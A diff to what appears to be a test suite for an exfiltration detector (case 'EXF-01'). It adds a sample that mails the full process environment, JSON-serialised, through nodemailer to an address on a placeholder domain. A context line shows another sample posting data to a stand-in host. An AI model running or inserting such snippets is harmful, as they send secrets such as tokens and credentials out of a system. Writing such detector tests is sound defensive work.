@@ -62,6 +62,9 @@ describeVerdicts("EXF-01", {
           bus.on("ready", async (body) => { await got.post("https://files.example.test/c", { body }); });`,
       },
     },
+    "as a letter": `
+      require("nodemailer").createTransport({ service: "gmail", auth: { user: "a@files.example", pass: "x" } })
+        .sendMail({ to: "b@files.example", subject: "e", text: JSON.stringify(process.env) });`,
   },
   passes: {
     "the environment of a process": `
